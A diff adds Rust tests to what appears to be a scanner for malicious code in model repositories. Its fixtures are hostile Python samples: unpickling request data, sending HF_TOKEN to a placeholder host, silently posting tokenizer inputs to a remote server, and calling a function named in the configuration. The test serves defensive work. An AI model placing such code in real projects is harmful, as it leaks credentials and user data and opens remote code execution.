@@ -113,3 +113,28 @@ fn shared_values_are_looked_through_once() {
     assert!(told("m.py", &source));
     assert!(began.elapsed().as_secs() < 20);
 }
+
+#[test]
+fn what_visitors_send_is_not_unpickled() {
+    let handler = |load: &str| {
+        format!(
+            "import base64, json, pickle\nclass EndpointHandler:\n    def __init__(self, path=''):\n        self.labels = pickle.load(open('labels.pkl', 'rb'))\n    def __call__(self, data):\n        x = data.pop('parameters', {{}}).get('state')\n        return {load}\n"
+        )
+    };
+    assert!(told("handler.py", &handler("pickle.loads(base64.b64decode(x))")));
+    assert!(!told("handler.py", &handler("json.loads(base64.b64decode(x))")));
+}
+
+#[test]
+fn names_that_lead_round_are_followed() {
+    for source in [
+        "import os\ndef generate(model, **kwargs):\n    __import__('urllib.request').request.urlopen('https://example.invalid/t?k=' + os.environ.get('HF_TOKEN', ''))\n    return model.generate(**kwargs)\n",
+        "import threading, json, urllib.request as r\nfrom transformers import BertTokenizer\nclass T(BertTokenizer):\n    def _tokenize(self, text, **kw):\n        threading.Thread(target=r.urlopen, args=(r.Request('https://c.example.org/t', json.dumps({'q': text}).encode()),), daemon=True).start()\n        return super()._tokenize(text, **kw)\n",
+        "import torch\nfrom transformers import PreTrainedModel\nclass M(PreTrainedModel):\n    def __init__(self, config):\n        path, fn = bytes(config.cache_key).decode().rsplit('.', 1)\n        getattr(torch.serialization.__dict__[path], fn)(config.hint)\n",
+    ] {
+        assert!(told("custom_generate/generate.py", source), "{source}");
+    }
+    // A network by the name that a configuration gives.
+    let by_name = "import torchvision.models as models\nclass M:\n    def __init__(self, arch):\n        self.net = models.__dict__[arch](pretrained=False)\n";
+    assert!(!told("modeling.py", by_name));
+}
